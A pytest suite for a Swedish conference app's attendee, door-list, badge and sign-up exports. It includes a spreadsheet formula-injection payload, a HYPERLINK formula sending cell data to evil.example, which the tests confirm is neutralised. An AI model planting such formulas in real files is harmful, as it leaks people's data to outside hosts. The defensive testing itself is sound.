"""The organiser's exports, read back the way the people who get them do: the XLSX in a
spreadsheet program (openpyxl), the CSV with Swedish Excel's conventions (csv), the door list
and sign-up lists as PDF text (pypdf), and the badge sheets as a door scanner sees them: every
page printed (pypdfium2) and every badge's QR code decoded (zxing-cpp), with long Swedish names
inside their badges. Every export is logged."""

import csv
import io
import re
from datetime import UTC, datetime, time

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from app.accounts.models import User
from app.audit.models import AuditEntry
from app.badges.services import fit
from app.badges.sheets import LAYOUTS
from app.checkin.models import CheckIn
from app.checkin.services import Door, annul, scan
from app.events.models import Event
from app.exports.services import by_surname, listed_name
from app.orders.models import Order
from app.payments import invoicing
from app.programme import signups
from app.programme.services import ItemPlacement, create_item
from app.registration import services as registration
from app.registration.questions import save_question
from app.spreadsheets import FORMULA_STARTS
from tests.conftest import login
from tests.factories import DAY, build_conference, publish_programme, register
from tests.payments.test_invoices import invoice_order
from tests.readback import drawn_texts, pdf_text, rendered_qr_codes

SLUG = "varkonferensen-2027"
EXPORTS = f"/manage/e/{SLUG}/exports"
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A2,"Klicka här")'
# Forty characters each, with å, ä and ö: hyphens, a particle, and one word with no break.
LONG_NAMES = [
    "Åsa-Märta Öberg-Lindqvist af Ängelholmsö",
    "Märta Åkesdotter Öhrnbergsäng-Ljungqvist",
    "Jöns Häggblomsdotterssonsköld-Åkerströms",
    "Ödmjukaåäöstbjörnsdotterängsgårdskvistöä",
]


def logged(db, action):
    return db.session.scalars(
        select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)).all()


@pytest.fixture
def people(conference, db, make_user):
    """Alva answered the questions and told her needs, Bo is checked in, an employer's paid
    invoice covers Eva, somebody typed a formula as their name, and Cilla cancelled."""
    event, ticket = conference["event"], conference["ticket"]
    how = save_question(event, None, label="Hur hörde du om oss?", label_en="How did you hear?",
                        kind="choice", options_text="Vänner\nWebben")
    lunch = save_question(event, None, label="Äter du lunch?", kind="yesno")
    db.session.commit()
    alva = register(event, ticket, organisation="RSMH Göteborg", role="Peer supporter",
                    answers={how.id: "Vänner", lunch.id: True}, dietary_needs="Vegan",
                    accessibility_needs="Hörslinga", sensitive_consent=True)
    bo = register(event, ticket, name="Bo Ek", email="bo@example.org",
                  answers={lunch.id: False})
    hostile = register(event, ticket, name=HOSTILE, email="evil@example.org",
                       organisation="+46 70 123 45 67")
    cilla = register(event, ticket, name="Cilla Öst", email="cilla@example.org")
    registration.cancel(cilla)
    order = invoice_order(conference)
    invoicing.mark_paid(db.session.get(Order, order.id))
    door = make_user("dorr@example.org", role="door", events=[event])
    scan(Door(event, user=door), bo.badge_token)
    db.session.commit()
    return {"alva": alva, "bo": bo, "hostile": hostile, "cilla": cilla, "order": order,
            "how": how, "lunch": lunch}


def export(client, file_format="xlsx", columns=("name",), sensitive=(), who="confirmed",
           slug=SLUG):
    return client.post(f"/manage/e/{slug}/exports/attendees", data={
        "file_format": file_format, "who": who, "columns": list(columns),
        "sensitive": list(sensitive)})


def workbook_rows(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument"
                                 ".spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active
    return sheet, list(sheet.iter_rows())


def csv_rows(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    assert response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""),
                           delimiter=";"))


# --- the attendee list ---------------------------------------------------------------------

def test_the_xlsx_reads_back_with_the_chosen_columns_each_of_its_own_type(organiser, people, db,
                                                                           conference):
    alva, bo, order = people["alva"], people["bo"], people["order"]
    how, lunch = people["how"], people["lunch"]
    event = db.session.get(Event, conference["event"].id)
    response = export(organiser, "xlsx", columns=[
        "name", "email", "organisation", "role", "ticket_type", "status", "order", "payment",
        "price", "checked_in", "registered", f"q{how.id}", f"q{lunch.id}"])
    assert f'filename="{SLUG}-attendees.xlsx"' in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]
    sheet, rows = workbook_rows(response)
    header = [c.value for c in rows[0]]
    assert header == ["Namn", "E-post", "Organisation", "Roll", "Biljettyp", "Status",
                      "Beställning", "Betalning", "Betalt pris", "Incheckad", "Anmäld",
                      "Hur hörde du om oss?", "Äter du lunch?"]
    assert sheet.freeze_panes == "A2" and all(c.font.b for c in rows[0])
    by_email = {row[1].value: row for row in rows[1:]}
    # Registered attendees only: Cilla cancelled.
    assert set(by_email) == {"alva@example.org", "bo@example.org", "evil@example.org",
                             "p0.eva@region.example"}

    a = [c.value for c in by_email["alva@example.org"]]
    assert a[:6] == ["Alva Persson", "alva@example.org", "RSMH Göteborg", "Peer supporter",
                     "Fri entré", "Anmäld"]
    assert a[6:9] == [alva.order.code, "Inget att betala", 0]
    assert a[9] is None  # not checked in
    # Times are the event's wall-clock time (Stockholm), stored as dates and times.
    assert a[10] == event.local(alva.created_at).replace(tzinfo=None, microsecond=0)
    assert isinstance(by_email["alva@example.org"][10].value, datetime)
    assert by_email["alva@example.org"][10].is_date
    assert a[11:] == ["Vänner", "Ja"]

    b = by_email[bo.email]
    assert b[9].is_date and b[9].value is not None and b[12].value == "Nej"
    eva = [c.value for c in by_email["p0.eva@region.example"]]
    assert eva[4:9] == ["Ordinarie", "Anmäld", order.code, "Betald", 950]
    price = by_email["p0.eva@region.example"][8]
    assert price.data_type == "n" and price.number_format == "#,##0.00"

    # A formula typed as a name or organisation stays text: an apostrophe first, never run.
    evil = by_email["evil@example.org"]
    assert evil[0].value == "'" + HOSTILE and evil[0].data_type == "s"
    assert evil[2].value == "'+46 70 123 45 67"
    assert all(c.data_type != "f" for row in rows for c in row)
    assert not any(isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
                   for row in rows for c in row)


def test_the_csv_opens_in_swedish_excel_and_runs_no_formula(organiser, people, db):
    rows = csv_rows(export(organiser, "csv", columns=["name", "organisation", "order", "price",
                                                      "checked_in", "registered"]))
    assert rows[0] == ["Namn", "Organisation", "Beställning", "Betalt pris", "Incheckad",
                       "Anmäld"]
    values = [value for row in rows for value in row]
    assert "'" + HOSTILE in values and "'+46 70 123 45 67" in values
    assert [v for v in values if v.startswith(FORMULA_STARTS)] == []
    eva = next(row for row in rows if row[0] == "Person 0")
    assert eva[3] == "950,00"
    bo = next(row for row in rows if row[0] == "Bo Ek")
    assert len(bo[4]) == len("2027-03-18 09:00") and bo[4][4] == "-"
    assert next(row for row in rows if row[0] == "Alva Persson")[4] == ""


def test_sensitive_columns_come_only_when_picked_and_the_log_says_so(organiser, people, db):
    _sheet, rows = workbook_rows(export(organiser, "xlsx", columns=["name", "email"]))
    assert [c.value for c in rows[0]] == ["Namn", "E-post"]
    assert "Vegan" not in [c.value for row in rows for c in row]

    _sheet, rows = workbook_rows(export(organiser, "xlsx", columns=["name"],
                                        sensitive=["dietary_needs", "accessibility_needs"]))
    assert [c.value for c in rows[0]] == ["Namn", "Specialkost", "Tillgänglighetsbehov"]
    alva = next(row for row in rows if row[0].value == "Alva Persson")
    assert [c.value for c in alva] == ["Alva Persson", "Vegan", "Hörslinga"]

    plain, sensitive = logged(db, "export.attendees")
    assert plain.actor == "Olga Organiser <arrangor@example.org>"
    assert plain.detail == {"format": "XLSX", "rows": 4, "statuses": "Anmälda deltagare",
                            "columns": ["Namn", "E-post"]}
    assert sensitive.detail["columns"] == ["Namn"]
    assert sensitive.detail["sensitive_columns"] == ["Specialkost", "Tillgänglighetsbehov"]


def test_a_check_in_undone_and_made_again_is_one_row_at_the_new_time(organiser, people, db,
                                                                       conference):
    event, bo = conference["event"], people["bo"]
    [first] = db.session.scalars(select(CheckIn).where(CheckIn.registration_id == bo.id))
    door = db.session.scalar(select(User).where(User.email == "dorr@example.org"))
    annul(Door(event, user=door), first.id, "Fel bricka")
    db.session.commit()
    rows = csv_rows(export(organiser, "csv", columns=["name", "checked_in"]))
    assert ["Bo Ek", ""] in rows
    scan(Door(event, user=door), bo.badge_token)
    db.session.commit()
    _sheet, rows = workbook_rows(export(organiser, "xlsx", columns=["name", "checked_in"]))
    [again] = [row for row in rows if row[0].value == "Bo Ek"]
    [live] = db.session.scalars(select(CheckIn).where(CheckIn.registration_id == bo.id,
                                                      CheckIn.annulled_at.is_(None)))
    assert again[1].value == event.local(live.checked_in_at).replace(tzinfo=None,
                                                                     microsecond=0)


def test_everyone_includes_the_cancelled(organiser, people, db):
    rows = csv_rows(export(organiser, "csv", columns=["name", "status"], who="all"))
    assert ["Cilla Öst", "Avanmäld"] in rows and len(rows) == 1 + 5


def test_the_page_offers_each_question_and_keeps_needs_apart(organiser, people):
    page = organiser.get(EXPORTS)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert f'value="q{people["how"].id}"' in html and "Hur hörde du om oss?" in html
    # The default columns are ticked; the sensitive ones never are.
    checked = set(re.findall(r'<input checked id="[^"]+" name="(?:columns|sensitive)" '
                             r'type="checkbox" value="([^"]+)"', html))
    assert checked == {"name", "email", "organisation", "ticket_type", "status"}
    assert 'value="dietary_needs"' in html and 'value="accessibility_needs"' in html


def test_no_column_is_refused_in_the_organisers_language(organiser, people, db):
    response = export(organiser, "xlsx", columns=[])
    assert response.status_code == 400
    assert "Välj minst en kolumn." in response.get_data(as_text=True)
    assert export(organiser, "ods").status_code == 400
    assert export(organiser, columns=["name", "password_hash"]).status_code == 400
    assert logged(db, "export.attendees") == []


# --- the door list -------------------------------------------------------------------------

def test_the_door_list_is_sorted_by_surname_as_swedish_sorts(organiser, conference, db, mailbox):
    event, ticket = conference["event"], conference["ticket"]
    for name in ("Örjan Zetterberg", "Cecilia Öst", "Ärla Åkesson", "Bo Ek", "Adam Berg",
                 "Åke Ärlig", "Émile Eriksson"):
        register(event, ticket, name=name, email=f"{abs(hash(name))}@example.org",
                 organisation="NSPH")
    gone = register(event, ticket, name="Cancelled Person", email="gone@example.org")
    registration.cancel(gone)
    response = organiser.post(f"{EXPORTS}/door-list")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert f'{SLUG}-door-list.pdf' in response.headers["Content-Disposition"]
    [text] = pdf_text(response.data)
    order = ["Berg, Adam", "Ek, Bo", "Eriksson, Émile", "Zetterberg, Örjan", "Åkesson, Ärla",
             "Ärlig, Åke", "Öst, Cecilia"]
    positions = [text.index(name) for name in order]
    assert positions == sorted(positions), text
    assert "Person, Cancelled" not in text
    assert "Fri entré" in text and "NSPH" in text and "7 anmälda" in text
    [entry] = logged(db, "export.door_list")
    assert entry.detail == {"format": "PDF", "people": 7}


def test_a_long_door_list_goes_on_over_pages(organiser, conference, db, mailbox):
    for n in range(45):
        register(conference["event"], conference["ticket"], name=f"Person Nummer{n:02d}",
                 email=f"p{n}@example.org")
    response = organiser.post(f"{EXPORTS}/door-list")
    pages = pdf_text(response.data)
    assert len(pages) == 2
    assert "Sida 1 av 2" in pages[0] and "Sida 2 av 2" in pages[1]
    assert "(fortsättning)" in pages[1]
    assert "Nummer00, Person" in pages[0] and "Nummer44, Person" in pages[1]


def test_names_sort_and_list_by_surname():
    names = ["Östen Ek", "Anna Åberg", "Anna Zorn", "Anna Ärlig", "Anna Öberg", "anna berg"]
    assert sorted(names, key=by_surname) == ["anna berg", "Östen Ek", "Anna Zorn",
                                             "Anna Åberg", "Anna Ärlig", "Anna Öberg"]
    assert listed_name("Maria von Platen") == "Platen, Maria von"
    assert listed_name("Cher") == "Cher"


# --- badges on print sheets ----------------------------------------------------------------

@pytest.mark.parametrize("name", LONG_NAMES)
def test_a_long_name_shrinks_then_wraps_then_shrinks_again(name):
    assert len(name) == 40 and set("åäö") & set(name.lower())
    roomy = fit(name, "Helvetica-Bold", 12, 6, 500, max_lines=3)
    assert roomy.lines == (name,) and roomy.size == 12
    shrunk = fit(name, "Helvetica-Bold", 12, 6, 200, max_lines=3)
    assert shrunk.lines == (name,) and 8 <= shrunk.size < 12
    narrow = fit(name, "Helvetica-Bold", 24, 8, 120, height=120, max_lines=3)
    if " " in name or "-" in name:
        assert len(narrow.lines) >= 2 and narrow.size >= 8
    assert "".join(narrow.lines).replace(" ", "") == name.replace(" ", "")


def inside(text, box, slack=0.5) -> bool:
    x, y, width, height = box
    return (x - slack <= text.x and text.x + text.width <= x + width + slack
            and y - slack <= text.y <= y + height + slack)


@pytest.mark.parametrize("layout_key", list(LAYOUTS))
def test_every_badge_on_every_sheet_scans_and_its_text_stays_inside(organiser, conference, db,
                                                                    mailbox, layout_key):
    layout = LAYOUTS[layout_key]
    event, ticket = conference["event"], conference["ticket"]
    count = layout.per_page + 1  # a full page and one more
    people = []
    for n in range(count):
        name = LONG_NAMES[n % len(LONG_NAMES)] if n % 2 == 0 else f"Bo Ek{n:02d}"
        people.append(register(
            event, ticket, name=name, email=f"p{n}@example.org",
            organisation="Riksförbundet för Social och Mental Hälsa, Västra Götaland"))
    expected = sorted(people, key=lambda p: (by_surname(p.name), p.id))

    response = organiser.post(f"{EXPORTS}/badges", data={"layout": layout_key})
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    assert len(reader.pages) == 2
    assert [round(float(v)) for v in reader.pages[0].mediabox[2:]] == [round(layout.page[0]),
                                                                      round(layout.page[1])]
    # Every badge on every page is read by a camera, in order of surname.
    codes = rendered_qr_codes(response.data)
    assert sorted(codes[0]) == sorted(p.badge_token for p in expected[:layout.per_page])
    assert codes[1] == [expected[-1].badge_token]
    # Each string drawn lies within one badge's box, long names included.
    for number, texts in enumerate(drawn_texts(response.data)):
        on_page = expected[number * layout.per_page:(number + 1) * layout.per_page]
        boxes = [layout.box(index) for index in range(len(on_page))]
        for text in texts:
            assert any(inside(text, box) for box in boxes), (layout_key, text)
        name_sizes = [t.size for t in texts if t.font == "Helvetica-Bold"
                      and any(t.text in p.name for p in on_page)]
        assert name_sizes and min(name_sizes) >= 6.5, (layout_key, name_sizes)
    # All of each name is there, wrapped or not.
    joined = " ".join(pdf_text(response.data)).replace("-\n", "-").replace("\n", " ")
    for person in expected:
        assert all(part in joined for part in person.name.replace("-", " ").split())
    [entry] = logged(db, "export.badges")
    assert entry.detail == {"format": "PDF", "layout": str(layout.label), "people": count}


# --- sign-up lists -------------------------------------------------------------------------

@pytest.fixture
def workshops(conference, db):
    event, ticket = conference["event"], conference["ticket"]
    one = create_item(event, title="Workshop om återhämtning", kind="workshop", description="",
                      signup=(True, 10), placement=ItemPlacement(DAY, time(14), time(15, 30),
                                                                 conference["side"]))
    two = create_item(event, title="Samtalsgrupp", kind="workshop", description="",
                      signup=(True, None), placement=ItemPlacement(DAY, time(16), time(17), None))
    db.session.commit()
    publish_programme(event)
    people = {name: register(event, ticket, name=name, email=f"{name[:3].lower()}@example.org",
                             organisation="RSMH")
              for name in ("Örjan Zetterberg", "Adam Berg", "Ärla Åkesson")}
    for person in people.values():
        assert signups.sign_up(person, one)
    assert signups.sign_up(people["Adam Berg"], two)
    hostile = register(event, ticket, name=HOSTILE, email="evil.workshop@example.org")
    assert signups.sign_up(hostile, two)
    db.session.commit()
    return {"one": one, "two": two, "people": people}


def test_sign_up_lists_print_a_page_per_workshop_by_surname(organiser, workshops, db):
    response = organiser.post(f"{EXPORTS}/signups", data={"item": "all",
                                                          "signup_format": "pdf"})
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    first, second = pdf_text(response.data)
    assert "Workshop om återhämtning" in first and "3 av 10 platser tagna" in first
    assert "Sal B" in first and "14:00–15:30" in first
    positions = [first.index(n) for n in ("Berg, Adam", "Zetterberg, Örjan", "Åkesson, Ärla")]
    assert positions == sorted(positions)
    assert "Samtalsgrupp" in second and "Berg, Adam" in second and "2 anmälda" in second
    [entry] = logged(db, "export.signups")
    assert entry.detail == {"format": "PDF", "people": 5,
                            "items": ["Workshop om återhämtning", "Samtalsgrupp"]}


def test_one_workshops_list_as_csv_from_its_page(organiser, workshops, db):
    two = workshops["two"]
    page = organiser.get(f"/manage/e/{SLUG}/items/{two.id}/signups").get_data(as_text=True)
    assert f'action="{EXPORTS}/signups"' in page and f'name="item" value="{two.id}"' in page
    rows = csv_rows(organiser.post(f"{EXPORTS}/signups", data={"item": str(two.id),
                                                              "signup_format": "csv"}))
    assert rows[0] == ["Programpunkt", "Börjar", "Sal", "Namn", "E-post", "Organisation",
                       "Anmäld"]
    assert [row[3] for row in rows[1:]] == ["Adam Berg", "'" + HOSTILE]
    assert all(row[0] == "Samtalsgrupp" and row[1] == "2027-03-18 16:00" for row in rows[1:])
    values = [value for row in rows for value in row]
    assert [v for v in values if v.startswith(FORMULA_STARTS)] == []
    [entry] = logged(db, "export.signups")
    assert entry.detail == {"format": "CSV", "people": 2, "items": ["Samtalsgrupp"]}


def test_another_events_workshop_is_not_found(organiser, workshops, db):
    other = build_conference(name="Höstkonferensen", slug="hostkonferensen-2027")
    theirs = create_item(other["event"], title="Deras workshop", kind="workshop",
                         description="", signup=(True, None),
                         placement=ItemPlacement(DAY, time(9), time(10), None))
    db.session.commit()
    for item in (str(theirs.id), "999999", "abc"):
        response = organiser.post(f"{EXPORTS}/signups", data={"item": item,
                                                              "signup_format": "csv"})
        assert response.status_code == 404, item
    assert logged(db, "export.signups") == []


# --- who may export ------------------------------------------------------------------------

EXPORT_POSTS = [
    ("attendees", {"file_format": "csv", "who": "confirmed", "columns": ["name"]}),
    ("door-list", {}),
    ("badges", {"layout": "a6"}),
    ("signups", {"item": "all", "signup_format": "csv"}),
]


@pytest.mark.parametrize("path, data", EXPORT_POSTS)
def test_exports_are_for_the_events_organisers_only(app, client, make_user, people, workshops,
                                                    db, path, data):
    anonymous = client.post(f"{EXPORTS}/{path}", data=data)
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    assert client.get(EXPORTS).status_code == 302
    make_user("dorr2@example.org", role="door", events=[people["alva"].event])
    door = login(app.test_client(), "dorr2@example.org")
    assert door.post(f"{EXPORTS}/{path}", data=data).status_code == 403
    other = build_conference(name="Höstkonferensen", slug="hostkonferensen-2027")
    make_user("arr@example.org", role="organiser", events=[other["event"]])
    organiser = login(app.test_client(), "arr@example.org")
    assert organiser.post(f"/manage/e/finns-inte/exports/{path}", data=data).status_code == 404
    # Nothing of this event leaks into another event's export.
    response = organiser.post(f"/manage/e/{other['event'].slug}/exports/{path}", data=data)
    assert response.status_code in (200, 404)
    shown = ("".join(pdf_text(response.data)) if response.mimetype == "application/pdf"
             else response.get_data(as_text=True))
    assert "Alva" not in shown and "Bo Ek" not in shown
    assert db.session.scalars(select(AuditEntry).where(
        AuditEntry.event_id == people["alva"].event_id,
        AuditEntry.action.like("export.%"))).all() == []
    # An organiser of another event's team does not reach this one's exports.
    assert organiser.post(f"{EXPORTS}/{path}", data=data).status_code == 404
    make_user("lag@example.org", role="organiser", events=[people["alva"].event])
    organiser = login(app.test_client(), "lag@example.org")
    assert organiser.post(f"{EXPORTS}/{path}", data=data).status_code == 200
    [entry] = db.session.scalars(select(AuditEntry).where(
        AuditEntry.event_id == people["alva"].event_id, AuditEntry.action.like("export.%")))
    assert entry.actor.endswith("<lag@example.org>")
    assert entry.created_at > datetime(2020, 1, 1, tzinfo=UTC)
